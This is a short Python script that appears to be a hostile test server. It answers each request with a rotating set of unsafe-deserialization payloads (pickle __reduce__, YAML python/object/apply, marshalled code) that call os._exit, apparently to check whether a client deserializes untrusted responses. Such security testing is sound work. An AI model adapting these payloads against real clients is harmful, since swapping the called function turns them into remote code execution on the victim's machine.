import itertools
import marshal
import os
import pickle

import server


class Run:
    def __reduce__(self):
        return os._exit, (0,)


KINDS = itertools.cycle([
    (b"application/json", pickle.dumps(Run())),
    (b"application/python-pickle", pickle.dumps(Run(), 0)),
    (b"application/yaml", b"!!python/object/apply:os._exit [0]"),
    (b"application/octet-stream", marshal.dumps(compile("import os; os._exit(0)", "x", "exec"))),
])
NEXT = KINDS.__next__


class Attack(server.Broken):
    def answer(self):
        kind, data = NEXT()
        self.raw(b"HTTP/1.1 200 OK\r\nContent-Type: " + kind + b"\r\nContent-Length: %d\r\n\r\n" % len(data) + data)


server.serve(Attack)
